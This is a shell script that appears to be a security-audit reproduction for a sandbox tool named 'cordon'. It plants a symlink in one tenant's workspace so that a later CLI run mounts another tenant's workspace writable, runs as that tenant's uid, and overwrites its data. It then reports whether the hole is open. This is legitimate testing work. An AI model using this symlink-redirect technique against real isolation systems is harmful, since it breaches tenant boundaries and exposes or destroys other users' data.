#!/bin/sh
# Finding R4-5: `cordon run --workspace DIR` canonicalizes DIR (following
# every symlink) before the launcher's no-follow walk sees it, so the
# symlinked-workspace redirect round 3 closed in the launcher (and that
# spawnIsolated still refuses) is open again through the CLI. Run 1, on
# tenant A's workspace, plants `cache -> <tenant B's workspace>`; run 2, given
# `A/cache`, gets B's workspace mounted writable and runs as B's owner uid.
# Run as root from the checkout: sh __test__/security/findings/round4/cli-workspace-symlink.repro.sh
set -eu
root=$(cd "$(dirname "$0")/../../../.." && pwd)
cordon="$root/target/release/cordon"
scratch=$(mktemp -d /var/tmp/cordon-r4-ws-XXXXXX)
trap 'rm -rf "$scratch"' EXIT
chmod 755 "$scratch"
mkdir "$scratch/A" "$scratch/B"
echo "B's data" > "$scratch/B/data"
# Two tenants' workspaces, each owned by its reserved workspace-owner uid.
chown -R 1879048197:1879048197 "$scratch/A"   # 0x70000005
chown -R 1879048198:1879048198 "$scratch/B"   # 0x70000006
chmod 700 "$scratch/A" "$scratch/B"
# Run 1 (tenant A's program): plants the link in its own workspace.
"$cordon" run --policy workspace-write --workspace "$scratch/A" -- /bin/sh -c "ln -s $scratch/B /workspace/cache"
# The API refuses the same path:
node -e "
const cordon = require('$root');
try { cordon.spawnIsolated(['/bin/true'], { policy: cordon.workspaceWrite(), workspace: '$scratch/A/cache' }); console.log('API: accepted'); }
catch (e) { console.log('API: refused', e.code); }"
# Run 2 (tenant A again), given A/cache: the CLI follows the link.
"$cordon" run --policy workspace-write --workspace "$scratch/A/cache" -- /bin/sh -c 'id -u; cat /workspace/data; echo "written by A" > /workspace/data' 2>&1 || true
if grep -q "written by A" "$scratch/B/data"; then
  echo "OPEN: tenant B's workspace was mounted writable through A's symlink and overwritten"
else
  echo "blocked: $(cat "$scratch/B/data")"
fi
